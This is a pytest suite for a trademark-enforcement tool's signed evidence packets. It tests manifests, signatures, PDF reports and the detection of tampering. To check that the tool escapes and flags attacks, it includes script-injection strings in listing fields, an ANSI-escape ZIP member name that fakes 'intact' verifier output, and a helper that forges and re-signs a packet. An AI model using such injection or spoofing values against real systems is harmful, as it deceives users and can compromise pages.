"""Sealed evidence packets: what a packet holds, that it verifies, and that any change to it is named."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from PIL import Image, ImageDraw

from review.evidence import build_packet, fingerprint, public_key_hex, verify_packet
from storage import Database, NotFound
from storage.errors import MarkwatchError
from storage.evidence import list_packets, protected_blobs
from storage.listings import upsert_listing
from storage.models import Brand, EvidencePacket, ReviewEvent, Snapshot, User
from storage.queue import record_score

T0 = datetime(2026, 11, 20, 1, 30, tzinfo=UTC)  # 09:30 in Shanghai
EXPORTED = datetime(2026, 11, 29, 2, 0, 5, tzinfo=UTC)
LICENCE = "914403001922038216"  # a real code (深圳), check digit right

HOSTILE_TITLE = '康帅傅 红烧牛肉面 5连包 <script>alert("x")</script> <font size=80>大</font> & 特价'


@dataclass
class Reason:
    signal: str
    weight: float
    detail: str


@dataclass
class FakeScore:
    """What storage.queue.record_score reads from a scorer's result (the ScoreLike protocol)."""

    risk: float = 0.93
    flagged: bool = True
    brand: str | None = "康师傅"
    violation: str | None = "lookalike_mark"
    reasons: list[Reason] = field(
        default_factory=lambda: [
            Reason("lookalike_mark", 0.71, "康帅傅 ≈ 康师傅（字形近似：帅/师）"),
            Reason("price", 0.22, "单价 ¥1.98，低于品牌价格下限 ¥3.00"),
        ]
    )
    model_version: str = "test-2026.11"
    department: str | None = "公平交易处"


def png(text_colour: str = "red", size: int = 64) -> bytes:
    image = Image.new("RGB", (size, size), "white")
    ImageDraw.Draw(image).rectangle([8, 8, size - 8, size - 8], outline=text_colour, width=3)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def make_lead(db: Database, *, snapshots: int = 2) -> int:
    """A lead on a lookalike listing with price history, snapshots (HTML + PNG), a score and decisions."""
    with db.session() as session:
        session.add(Brand(name="康师傅", owner="康师傅控股有限公司"))
        session.add(User(name="王审核", role="reviewer"))
        session.add(User(name="李调查", role="investigator"))
        session.flush()
        record = {
            "id": "demo-static:10023",
            "url": "http://127.0.0.1:8801/item/10023",
            "title": HOSTILE_TITLE,
            "price": 12.9,
            "category": "方便面",
            "seller": {
                "id": "s-88",
                "name": "好味食品店 onerror=alert(1)",
                "licence": LICENCE,
                "rating": 4.1,
            },
            "sold": 1200,
            "description": "正品保证，假一赔十",
        }
        for day, price in enumerate((12.9, 9.9, 9.9)):
            listing, _ = upsert_listing(
                session=session, record={**record, "price": price}, seen_at=T0 + timedelta(days=day)
            )
        for n in range(snapshots):
            html = f"<html><head><meta charset='utf-8'><title>康帅傅</title></head><body>第{n + 1}次抓取 ¥9.9"
            session.add(
                Snapshot(
                    listing_id=listing.id,
                    fetched_at=T0 + timedelta(hours=n),
                    url=record["url"],
                    final_url=record["url"] + "?from=search",
                    http_status=200,
                    headers={"content-type": "text/html; charset=utf-8", "server": "demo"},
                    html_sha256=db.blobs.put(html.encode("utf-8")),
                    screenshot_sha256=db.blobs.put(png(size=64 + n)),
                    tool_version="markwatch 0.1.0 (scrapy)",
                )
            )
        lead = record_score(session=session, listing=listing, score=FakeScore(), now=T0 + timedelta(days=2))
        reviewer = session.query(User).filter_by(name="王审核").one()
        session.add(
            ReviewEvent(
                lead_id=lead.id,
                user_id=reviewer.id,
                at=T0 + timedelta(days=3),
                action="confirm",
                note="字形近似，确认傍名牌",
            )
        )
        session.flush()
        return lead.id


@pytest.fixture
def lead_id(db: Database) -> int:
    return make_lead(db)


@pytest.fixture
def packet(db: Database, lead_id: int) -> bytes:
    return build_packet(db, lead_id, user_name="李调查", now=EXPORTED)


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# --- what a packet holds ------------------------------------------------------------------------------


def test_a_packet_holds_every_file_in_a_fixed_order(packet: bytes):
    with zipfile.ZipFile(io.BytesIO(packet)) as archive:
        names = archive.namelist()
    assert names == [
        "manifest.json",
        "manifest.sig",
        "public_key.txt",
        "report.pdf",
        "reasons.json",
        "price_history.csv",
        "audit.csv",
        "snapshots/1.html",
        "snapshots/2.html",
        "screenshots/1.png",
        "screenshots/2.png",
    ]


def test_the_manifest_lists_every_other_file_with_its_size_and_sha256(packet: bytes):
    files = members(packet)
    manifest = json.loads(files["manifest.json"])
    listed = {entry["name"]: entry for entry in manifest["files"]}
    assert set(listed) == set(files) - {"manifest.json", "manifest.sig"}
    for name, entry in listed.items():
        assert entry["sha256"] == hashlib.sha256(files[name]).hexdigest(), name
        assert entry["size"] == len(files[name])


def test_the_manifest_describes_lead_listing_snapshots_export_and_key(packet: bytes, lead_id: int):
    manifest = json.loads(members(packet)["manifest.json"])
    assert manifest["format"] == "markwatch-evidence/1"
    assert manifest["tool"]["name"] == "markwatch" and manifest["tool"]["version"]
    assert manifest["exported"] == {
        "by": "李调查",
        "via": "web",
        "at_utc": "2026-11-29T02:00:05+00:00",
        "at_shanghai": "2026-11-29T10:00:05+08:00",
        "by_certificate": None,  # the officers' fields: unset in this installation, no witness chosen
        "witness": None,
        "witness_certificate": None,
        "bureau": None,
        "place": None,
    }
    assert manifest["lead"]["id"] == lead_id
    assert manifest["lead"]["brand"] == "康师傅"
    assert manifest["lead"]["estimated_sales"] == pytest.approx(9.9 * 1200)
    assert manifest["listing"]["title"] == HOSTILE_TITLE
    assert manifest["listing"]["seller"]["licence_check"] == {
        "valid": True,
        "region": "广东省深圳市",
        "reason": None,
    }
    first = manifest["snapshots"][0]
    assert first["fetched_at_utc"] == "2026-11-20T01:30:00+00:00"
    assert first["fetched_at_shanghai"] == "2026-11-20T09:30:00+08:00"
    assert first["http_status"] == 200 and first["headers"]["content-type"].startswith("text/html")
    assert first["html"] == "snapshots/1.html" and first["screenshot"] == "screenshots/1.png"
    assert first["tool_version"] == "markwatch 0.1.0 (scrapy)"
    assert manifest["signature"]["public_key"] == public_key_hex()
    assert manifest["signature"]["fingerprint"] == fingerprint()


def test_snapshots_are_the_stored_bytes(packet: bytes, db: Database):
    files = members(packet)
    manifest = json.loads(files["manifest.json"])
    for snap in manifest["snapshots"]:
        assert files[snap["html"]] == db.blobs.get(snap["html_sha256"])
        assert files[snap["screenshot"]] == db.blobs.get(snap["screenshot_sha256"])
    assert "第1次抓取".encode() in files["snapshots/1.html"]


def test_price_history_and_audit_are_csv_with_a_bom_for_excel(packet: bytes):
    files = members(packet)
    prices = files["price_history.csv"]
    assert prices.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(prices.decode("utf-8-sig"))))
    assert rows[0] == ["观测时间（UTC）", "观测时间（北京时间）", "价格", "币种"]
    assert [r[2] for r in rows[1:]] == ["12.9", "9.9"]  # a row only when the price changed
    audit = list(csv.reader(io.StringIO(files["audit.csv"].decode("utf-8-sig"))))
    assert [r[3] for r in audit[1:]] == ["flagged", "confirm"]
    assert audit[2][2] == "王审核" and audit[2][5] == "字形近似，确认傍名牌"


def test_reasons_json_holds_the_scores_reasons(packet: bytes):
    reasons = json.loads(members(packet)["reasons.json"])
    assert reasons["score"]["risk"] == pytest.approx(0.93)
    assert reasons["reasons"][0] == {
        "signal": "lookalike_mark",
        "weight": 0.71,
        "detail": "康帅傅 ≈ 康师傅（字形近似：帅/师）",
    }


def test_the_same_export_gives_the_same_bytes(db: Database, lead_id: int):
    first = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
    second = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
    # the audit trail of the second includes the first export, so compare everything else
    a, b = members(first), members(second)
    for name in (
        "snapshots/1.html",
        "screenshots/2.png",
        "price_history.csv",
        "reasons.json",
        "public_key.txt",
    ):
        assert a[name] == b[name]
    assert list(a) == list(b)


# --- verification ---------------------------------------------------------------------------------------


def test_an_untouched_packet_verifies(packet: bytes):
    report = verify_packet(packet)
    assert report.ok, report.lines()
    assert report.signature_valid and report.key_source == "installation"
    assert report.files_checked == 9
    assert report.lines()[-1].startswith("intact")


@pytest.mark.parametrize(
    "name",
    [
        "report.pdf",
        "reasons.json",
        "price_history.csv",
        "audit.csv",
        "snapshots/2.html",
        "screenshots/1.png",
        "public_key.txt",
    ],
)
def test_one_changed_byte_in_any_file_is_named(packet: bytes, name: str):
    files = members(packet)
    data = bytearray(files[name])
    data[len(data) // 2] ^= 0x01
    files[name] = bytes(data)
    report = verify_packet(rezip(files))
    assert not report.ok
    assert report.changed == [name]
    assert report.signature_valid  # the manifest itself is intact: it is the file that changed
    assert f"changed: {name}" in report.lines()


def test_an_added_file_is_named(packet: bytes):
    files = members(packet)
    files["snapshots/3.html"] = "<html>伪造的快照</html>".encode()
    report = verify_packet(rezip(files))
    assert not report.ok and report.added == ["snapshots/3.html"]


def test_a_removed_file_is_named(packet: bytes):
    files = members(packet)
    del files["screenshots/2.png"]
    del files["audit.csv"]
    report = verify_packet(rezip(files))
    assert not report.ok and sorted(report.removed) == ["audit.csv", "screenshots/2.png"]


def test_a_tampered_manifest_fails_the_signature(packet: bytes):
    files = members(packet)
    manifest = json.loads(files["manifest.json"])
    manifest["listing"]["price"] = 99.0  # someone "corrects" the price
    files["manifest.json"] = json.dumps(manifest, ensure_ascii=False, indent=2).encode() + b"\n"
    report = verify_packet(rezip(files))
    assert not report.ok and report.signature_valid is False
    assert "manifest.json" in report.changed
    assert report.lines()[0].startswith("signature: INVALID")


def test_a_file_replaced_together_with_its_hash_in_the_manifest_fails_the_signature(packet: bytes):
    files = members(packet)
    files["snapshots/1.html"] = "<html>替换</html>".encode()
    manifest = json.loads(files["manifest.json"])
    for entry in manifest["files"]:
        if entry["name"] == "snapshots/1.html":
            entry["sha256"] = hashlib.sha256(files["snapshots/1.html"]).hexdigest()
            entry["size"] = len(files["snapshots/1.html"])
    files["manifest.json"] = json.dumps(manifest, ensure_ascii=False, indent=2).encode() + b"\n"
    report = verify_packet(rezip(files))
    assert not report.ok and report.signature_valid is False


def forge(packet: bytes) -> tuple[bytes, str]:
    """The packet with snapshots/1.html changed, its hash recomputed and the manifest re-signed by a new key
    written into the manifest and public_key.txt; and the forger's fingerprint."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    files = members(packet)
    forger = Ed25519PrivateKey.generate()
    forger_hex = forger.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw).hex()
    files["snapshots/1.html"] = "<html>第1次抓取 ¥99（伪造）</html>".encode()
    files["public_key.txt"] = (forger_hex + "\n").encode()
    manifest = json.loads(files["manifest.json"])
    manifest["signature"]["public_key"] = forger_hex
    manifest["signature"]["fingerprint"] = fingerprint(forger_hex)
    for entry in manifest["files"]:
        entry["sha256"] = hashlib.sha256(files[entry["name"]]).hexdigest()
        entry["size"] = len(files[entry["name"]])
    files["manifest.json"] = json.dumps(manifest, ensure_ascii=False, indent=2).encode() + b"\n"
    files["manifest.sig"] = forger.sign(files["manifest.json"]).hex().encode() + b"\n"
    return rezip(files), fingerprint(forger_hex)


def test_a_forged_and_resigned_packet_fails_on_the_issuing_installation(packet: bytes):
    forged, forger = forge(packet)
    report = verify_packet(forged)
    assert not report.ok
    assert report.signature_valid and report.key_source == "other"
    first = report.lines()[0]
    assert first.startswith("signature: NOT BY THE EXPECTED KEY")
    assert forger in first and fingerprint() in first  # both fingerprints, to compare by eye
    assert not any(line.startswith("intact") for line in report.lines())


def test_without_any_key_to_compare_a_forged_packet_passes_only_with_a_warning(
    packet: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    forged, forger = forge(packet)
    monkeypatch.setenv("MARKWATCH_HOME", str(tmp_path / "court"))  # a machine without an installation key
    report = verify_packet(forged)
    assert report.ok and report.key_source == "embedded" and report.fingerprint == forger
    lines = report.lines()
    assert lines[1].startswith("warning: the signer was NOT identified")
    assert "--key" in lines[1]
    assert "signer not identified" in lines[-1]


def test_a_pinned_key_tells_the_forgery_from_the_real_packet(
    packet: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    real_key, real_fp = public_key_hex(), fingerprint()
    forged, forger = forge(packet)
    monkeypatch.setenv("MARKWATCH_HOME", str(tmp_path / "court"))
    for pin in (real_key, real_fp, real_fp.replace(" ", ""), real_key.upper()):
        bad = verify_packet(forged, expected_key=pin)
        assert not bad.ok and bad.key_source == "other", pin
        assert forger in bad.lines()[0] and real_fp in bad.lines()[0]
        good = verify_packet(packet, expected_key=pin)
        assert good.ok and good.key_source == "pinned", pin
        assert not any(line.startswith("warning") for line in good.lines())


def test_a_pinned_key_overrides_the_installation_key(packet: bytes):
    """A packet of another installation, checked here: the --key decides, not this machine's key."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    other = Ed25519PrivateKey.generate().public_key().public_bytes(Encoding.Raw, PublicFormat.Raw).hex()
    report = verify_packet(packet, expected_key=other)
    assert not report.ok and report.key_source == "other"
    assert fingerprint(other) in report.lines()[0]


@pytest.mark.parametrize("bad", ["", "not-a-key", "abcd 1234", "g" * 64, "ab" * 33])
def test_a_key_that_is_neither_a_key_nor_a_fingerprint_is_refused(packet: bytes, bad: str):
    with pytest.raises(MarkwatchError, match="neither a public key") as info:
        verify_packet(packet, expected_key=bad)
    assert repr(bad) in str(info.value)


def test_a_packet_verifies_on_another_machine_by_its_embedded_key(
    packet: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("MARKWATCH_HOME", str(tmp_path / "elsewhere"))  # no key on this "machine"
    report = verify_packet(packet)
    assert report.ok and report.key_source == "embedded"
    assert not (tmp_path / "elsewhere" / "keys").exists()  # verifying never creates a key


def test_something_that_is_not_a_packet_is_said_so():
    assert not verify_packet(b"PK\x03\x04 not really").is_packet
    assert not verify_packet(rezip({"readme.txt": "你好".encode()})).is_packet


# --- the PDF report -------------------------------------------------------------------------------------


def pdf_text(packet: bytes, tmp_path: Path) -> str:
    if not shutil.which("pdftotext"):
        pytest.skip("poppler-utils (pdftotext) not installed on this machine (make test installs it)")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(members(packet)["report.pdf"])
    run = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True)
    return run.stdout


def test_the_report_embeds_a_cjk_font_and_says_what_it_is(packet: bytes, tmp_path: Path):
    text = pdf_text(packet, tmp_path)
    if not shutil.which("pdffonts"):
        pytest.skip("poppler-utils (pdffonts) not installed on this machine (make test installs it)")
    pdf = tmp_path / "report.pdf"
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
    rows = [line.split() for line in fonts.splitlines()[2:]]
    assert rows, fonts
    for row in rows:  # columns: name type encoding emb sub uni object ID; emb is the 4th from the end
        assert row[-5] == "yes", f"font not embedded: {row}"
    assert any(row[0].split("+")[-1].startswith(("WenQuanYi", "Noto", "Droid", "AR")) for row in rows), fonts
    for expected in (
        "电子数据提取笔录",
        "提取人",
        "见证人",
        "好味食品店",
        "广东省深圳市",
        "SHA-256",
        "<script>",
        "<font size=80>大</font> & 特价",  # scraped text printed as it is, never read as markup
    ):
        assert expected in text, expected


def test_the_report_lists_the_audit_trail_and_each_snapshots_times_status_and_headers(
    db: Database, lead_id: int, tmp_path: Path
):
    with db.session() as session:
        first = session.query(Snapshot).order_by(Snapshot.id).first()
        first.headers = {**first.headers, "set-cookie": "sid=" + "7f" * 400}  # longer than a line
        session.add(  # a browser snapshot of an in-page route: no response of its own, so no headers
            Snapshot(
                listing_id=first.listing_id,
                fetched_at=T0 + timedelta(days=1),
                url="http://127.0.0.1:8802/#/item/10023",
                headers={},
                html_sha256=db.blobs.put("<html>单页应用</html>".encode()),
                tool_version="markwatch 0.1.0 (playwright)",
            )
        )
    text = pdf_text(build_packet(db, lead_id, user_name="李调查", now=EXPORTED), tmp_path)
    for expected in (
        "2026-11-20 09:30:00（北京时间）",  # snapshot 1, both zones
        "2026-11-20T01:30:00Z（UTC）",
        "text/html; charset=utf-8",  # a header value
        "set-cookie",
        "无（未记录响应头",  # the snapshot without headers says so
        "http://127.0.0.1:8802/#/item/10023",
        "处理记录",  # the audit trail: who, when, what, note
        "2026-11-23 09:30:00",
        "王审核",
        "字形近似，确认傍名牌",
        "系统标记",
    ):
        assert expected in text, expected
    assert len([line for line in text.splitlines() if line.strip().startswith("快照 ")]) == 3


def test_the_packet_uses_the_web_apps_labels(db: Database, lead_id: int, tmp_path: Path):
    from review.i18n import label

    with db.session() as session:
        session.add(ReviewEvent(lead_id=lead_id, at=T0 + timedelta(days=4), action="dismiss", note="误报"))
    data = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
    audit = list(csv.reader(io.StringIO(members(data)["audit.csv"].decode("utf-8-sig"))))
    assert [r[4] for r in audit[1:]] == [label("action", a) for a in ("flagged", "confirm", "dismiss")]
    assert audit[3][4] == "驳回"  # as on the lead page, not a second wording
    text = pdf_text(data, tmp_path)
    assert label("violation", "lookalike_mark") in text and label("status", "new") in text


# the record's own Chinese words: none may be left in an English report (scraped Chinese text may be)
ZH_LABELS = (
    "电子数据提取笔录",
    "一、基本情况",
    "提取人",
    "见证人",
    "执法证号",
    "提取对象",
    "监测发现",
    "网页快照",
    "价格记录",
    "处理记录",
    "完整性校验",
    "北京时间",
    "抓取方式",
    "响应头",
    "八、签名",
    "页共",
)


def english_report(text: str) -> None:
    for expected in (
        "Electronic data extraction record",
        "1. General information",
        "Extracted by",
        "Witness",
        "Enforcement certificate no.",
        "4. Page snapshots (2 fetches)",
        "7. Integrity of the electronic data (SHA-256)",
        "Page 1 of",
        "好味食品店",  # scraped Chinese text still shows: the CJK font is embedded in the English report too
    ):
        assert expected in text, expected
    leftover = [label for label in ZH_LABELS if label in text.replace(" ", "")]
    assert not leftover, leftover


def test_an_english_report_has_english_words_and_the_same_manifest(
    db: Database, lead_id: int, tmp_path: Path
):
    from review.i18n import label

    chinese = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
    english = build_packet(db, lead_id, user_name="李调查", now=EXPORTED, lang="en")
    text = pdf_text(english, tmp_path)
    english_report(text)
    assert label("status", "new", "en") in text and label("violation", "lookalike_mark", "en") in text
    assert "电子数据提取笔录" in pdf_text(chinese, tmp_path)  # Chinese stays the default
    zh_files, en_files = members(chinese), members(english)
    assert list(zh_files) == list(en_files)  # the same files, in the same order
    zh_manifest, en_manifest = json.loads(zh_files["manifest.json"]), json.loads(en_files["manifest.json"])
    assert {k: v for k, v in en_manifest.items() if k != "files"} == {
        k: v for k, v in zh_manifest.items() if k != "files"
    }
    # the same files with the same bytes but the report, and the audit trail, which has the first export
    changed = {"report.pdf", "audit.csv"}
    assert [f for f in en_manifest["files"] if f["name"] not in changed] == [
        f for f in zh_manifest["files"] if f["name"] not in changed
    ]
    assert verify_packet(english).ok


def test_cli_export_writes_an_english_report_only_when_asked(cli, db: Database, lead_id: int, tmp_path: Path):
    out = tmp_path / "线索-en.zip"
    result = cli("evidence", "export", lead_id, "--out", out, "--report-lang", "en")
    assert result.exit_code == 0, result.stderr
    english_report(pdf_text(out.read_bytes(), tmp_path))
    # an English command line (the cli fixture's locale, and --lang en) still writes the Chinese record
    chinese = tmp_path / "线索-zh.zip"
    assert cli("--lang", "en", "evidence", "export", lead_id, "--out", chinese).exit_code == 0
    text = pdf_text(chinese.read_bytes(), tmp_path)
    assert "电子数据提取笔录" in text and "一、基本情况" in text and "Electronic data" not in text
    refused = cli("evidence", "export", lead_id, "--out", tmp_path / "x.zip", "--report-lang", "fr")
    assert refused.exit_code == 2 and "fr" in refused.stderr


def test_no_cjk_font_is_refused_with_the_package_to_install(
    db: Database, lead_id: int, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    import review.evidence.report as report

    monkeypatch.setattr(report, "KNOWN_FONTS", (("/nonexistent/font.ttc", 0),))
    with pytest.raises(MarkwatchError, match="fonts-wqy-microhei"):
        build_packet(db, lead_id, user_name="李调查")
    monkeypatch.setenv("MARKWATCH_CJK_FONT", str(tmp_path / "missing.ttf"))
    with pytest.raises(MarkwatchError, match="MARKWATCH_CJK_FONT"):
        build_packet(db, lead_id, user_name="李调查")
    with db.session() as session:
        assert list_packets(session=session, lead_id=lead_id) == []  # nothing recorded for a failed export


# --- the record of an export ----------------------------------------------------------------------------


def test_an_export_is_an_audit_event_with_its_packet_and_protected_blobs(
    db: Database, lead_id: int, packet: bytes
):
    with db.session() as session:
        events = session.query(ReviewEvent).filter_by(lead_id=lead_id, action="evidence_export").all()
        assert len(events) == 1
        event = events[0]
        assert event.user_id == session.query(User).filter_by(name="李调查").one().id
        assert event.detail["sha256"] == hashlib.sha256(packet).hexdigest()
        (row,) = list_packets(session=session, lead_id=lead_id)
        assert isinstance(row, EvidencePacket) and event.detail["packet_id"] == row.id
        assert row.manifest_sha256 == hashlib.sha256(members(packet)["manifest.json"]).hexdigest()
        manifest = json.loads(members(packet)["manifest.json"])
        referenced = {s["html_sha256"] for s in manifest["snapshots"]} | {
            s["screenshot_sha256"] for s in manifest["snapshots"]
        }
        assert {b.sha256 for b in row.blobs} == referenced | {row.sha256}
        assert referenced <= protected_blobs(session=session)
    assert db.blobs.get(row.sha256) == packet  # the ZIP itself is kept


def test_an_unknown_lead_is_not_found(db: Database):
    with pytest.raises(NotFound):
        build_packet(db, 424242, user_name="李调查")


def test_a_snapshot_whose_blob_is_gone_is_declared_missing(db: Database, lead_id: int):
    with db.session() as session:
        snap = session.query(Snapshot).order_by(Snapshot.id).first()
        digest = snap.screenshot_sha256
    db.blobs.delete(digest)
    data = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
    manifest = json.loads(members(data)["manifest.json"])
    assert manifest["snapshots"][0]["missing"] == ["screenshot"]
    assert "screenshots/1.png" not in members(data)
    assert verify_packet(data).ok


def test_the_key_is_created_once_and_readable_by_its_owner_only(home: Path):
    first = public_key_hex()
    assert public_key_hex() == first and len(first) == 64
    key_file = home / "keys" / "evidence-ed25519.pem"
    assert stat.S_IMODE(os.stat(key_file).st_mode) == 0o600
    assert len(fingerprint(first).split()) == 8


# --- the command line -----------------------------------------------------------------------------------


def test_cli_exports_and_verifies_and_names_a_changed_file(cli, db: Database, lead_id: int, tmp_path: Path):
    out = tmp_path / "线索.zip"
    result = cli("evidence", "export", lead_id, "--out", out)
    assert result.exit_code == 0, result.stderr
    assert out.exists()
    ok = cli("evidence", "verify", out)
    assert ok.exit_code == 0 and "intact" in ok.stdout

    files = members(out.read_bytes())
    files["audit.csv"] = files["audit.csv"].replace("确认".encode(), "排除".encode())
    bad = tmp_path / "bad.zip"
    bad.write_bytes(rezip(files))
    result = cli("evidence", "verify", bad)
    assert result.exit_code == 1 and "changed: audit.csv" in result.stdout

    junk = tmp_path / "junk.zip"
    junk.write_text("这不是证据包", encoding="utf-8")
    assert cli("evidence", "verify", junk).exit_code == 2
    assert cli("evidence", "export", 99999).exit_code == 2


def test_cli_verify_pins_the_signer_with_key(
    cli, db: Database, lead_id: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    real = tmp_path / "real.zip"
    assert cli("evidence", "export", lead_id, "--out", real).exit_code == 0
    real_key, real_fp = public_key_hex(), fingerprint()
    forged_data, forger = forge(real.read_bytes())
    forged = tmp_path / "forged.zip"
    forged.write_bytes(forged_data)

    on_issuer = cli("evidence", "verify", forged)  # the issuing installation: its own key is expected
    assert on_issuer.exit_code == 1
    assert "NOT BY THE EXPECTED KEY" in on_issuer.stdout and forger in on_issuer.stdout
    assert real_fp in on_issuer.stdout and "intact" not in on_issuer.stdout

    monkeypatch.setenv("MARKWATCH_HOME", str(tmp_path / "court"))  # a machine without the key
    unpinned = cli("evidence", "verify", forged)
    assert unpinned.exit_code == 0
    assert "warning: the signer was NOT identified" in unpinned.stdout
    for pin in (real_key, real_fp):
        result = cli("evidence", "verify", forged, "--key", pin)
        assert result.exit_code == 1 and forger in result.stdout and real_fp in result.stdout
        result = cli("evidence", "verify", real, "--key", pin)
        assert result.exit_code == 0 and "by the expected key" in result.stdout and "intact" in result.stdout
        assert "warning" not in result.stdout

    refused = cli("evidence", "verify", real, "--key", "康师傅的钥匙")
    assert refused.exit_code == 2 and "康师傅的钥匙" in refused.stderr and "fingerprint" in refused.stderr


def test_cli_export_default_name_is_in_the_current_directory(
    cli, db: Database, lead_id: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.chdir(tmp_path)
    result = cli("evidence", "export", lead_id)
    assert result.exit_code == 0, result.stderr
    (written,) = tmp_path.glob(f"markwatch-lead-{lead_id}-*.zip")
    assert verify_packet(written).ok


@pytest.mark.postgres
def test_a_packet_builds_and_verifies_on_postgresql(pg_url: str):
    from storage import open_database
    from storage.migrate import upgrade

    database = open_database(check=False)
    upgrade(database.engine)
    lead = make_lead(database, snapshots=3)
    data = build_packet(database, lead, user_name="李调查", now=EXPORTED)
    report = verify_packet(data)
    assert report.ok, report.lines()
    assert report.files_checked == 11
    with database.session() as session:
        stored = [p.sha256 for p in list_packets(session=session, lead_id=lead)]
    assert stored == [hashlib.sha256(data).hexdigest()]


def test_the_report_is_deterministic_for_the_same_facts(home: Path):
    from review.evidence.report import render_report

    facts = {
        "lead": {"id": 7, "risk": 0.9, "violation_label": "仿冒混淆（傍名牌）"},
        "listing": {"title": "康帅傅 红烧牛肉面", "seller": {"name": "好味食品店"}},
        "score": None,
        "reasons": [{"signal": "lookalike_mark", "weight": 0.7, "detail": "康帅傅 ≈ 康师傅"}],
        "snapshots": [],
        "price_history": [],
        "files": [{"name": "reasons.json", "size": 10, "sha256": "0" * 64}],
        "exported": {"by": "李调查", "at_utc": "2026-11-29T02:00:05Z", "at_shanghai": "2026-11-29 10:00:05"},
        "key": {"public_key": public_key_hex(), "fingerprint": fingerprint()},
        "tool": {"name": "markwatch", "version": "0.1.0"},
    }
    assert render_report(facts) == render_report(facts)


def test_retention_never_prunes_what_a_packet_references(db: Database, lead_id: int):
    from storage.models import Lead
    from storage.retention import prune_dismissed

    data = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
    with db.session() as session:
        lead = session.get(Lead, lead_id)
        lead.status = "dismissed"  # dismissed after the export: its snapshots are normally prunable
        later = "<html>导出之后的快照</html>".encode()
        session.add(
            Snapshot(
                listing_id=lead.listing_id,
                fetched_at=EXPORTED,
                url="http://127.0.0.1:8801/item/10023",
                html_sha256=db.blobs.put(later),
                tool_version="test",
            )
        )
        session.flush()
        cutoff = EXPORTED + timedelta(days=3650)
        pruned = prune_dismissed(session=session, older_than=cutoff)
    # only the snapshot outside the packet goes
    assert pruned.snapshots == 1 and pruned.orphans == [hashlib.sha256(later).hexdigest()]
    manifest = json.loads(members(data)["manifest.json"])
    for snap in manifest["snapshots"]:
        assert db.blobs.exists(snap["html_sha256"]) and db.blobs.exists(snap["screenshot_sha256"])


def test_a_second_member_with_the_same_name_is_named(packet: bytes):
    files = members(packet)
    buffer = io.BytesIO(rezip(files))
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("snapshots/1.html", "<html>另一份内容</html>".encode())
    report = verify_packet(buffer.getvalue())
    assert not report.ok and "snapshots/1.html" in report.added


def test_a_removed_signature_is_named(packet: bytes):
    files = members(packet)
    del files["manifest.sig"]
    report = verify_packet(rezip(files))
    assert not report.ok and report.signature_valid is False and report.removed == ["manifest.sig"]
    assert report.lines()[0].startswith("signature: MISSING")


def test_the_cjk_font_setting_takes_a_collection_index(monkeypatch: pytest.MonkeyPatch, home: Path):
    from review.evidence.report import cjk_font

    wqy = Path("/usr/share/fonts/truetype/wqy/wqy-microhei.ttc")
    noto = Path("/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc")
    if not (wqy.exists() and noto.exists()):
        pytest.skip("needs fonts-wqy-microhei and fonts-noto-cjk (the Makefile installs both)")
    monkeypatch.setenv("MARKWATCH_CJK_FONT", f"{wqy}#1")  # WenQuanYi Micro Hei Mono
    assert cjk_font()
    monkeypatch.setenv("MARKWATCH_CJK_FONT", str(noto))  # OpenType/CFF: reportlab cannot embed it
    with pytest.raises(MarkwatchError, match="OpenType/CFF"):
        cjk_font()


# --- hostile archives and hostile text ------------------------------------------------------------------

TERMINAL_LIE = "\x1b[2K\x1b[1Fsignature: valid, by this installation's key\nintact: 6 file(s) match\x1b[8m"


def test_a_member_name_cannot_rewrite_what_the_terminal_shows(
    cli, db: Database, lead_id: int, tmp_path: Path
):
    good = tmp_path / "好.zip"
    assert cli("evidence", "export", lead_id, "--out", good).exit_code == 0
    files = members(good.read_bytes())
    files["snapshots/1.html"] = "<html>改过的快照</html>".encode()
    files[TERMINAL_LIE] = b""
    bad = tmp_path / "坏.zip"
    bad.write_bytes(rezip(files))
    result = cli("evidence", "verify", bad)
    assert result.exit_code == 1
    assert "\x1b" not in result.stdout and "\\x1b[2K" in result.stdout
    lines = result.stdout.splitlines()
    assert not any(line.startswith("intact") for line in lines)
    assert "changed: snapshots/1.html" in lines
    assert any(line.startswith("added: \\x1b[2K") and "\\x0aintact" in line for line in lines)


def test_a_changed_digit_in_the_signature_is_named_as_the_signature(packet: bytes):
    files = members(packet)
    sig = files["manifest.sig"].decode()
    digit = "1" if sig[10] != "1" else "2"
    files["manifest.sig"] = (sig[:10] + digit + sig[11:]).encode()
    report = verify_packet(rezip(files))
    assert not report.ok and report.signature_valid is False
    assert report.changed == ["manifest.sig"]
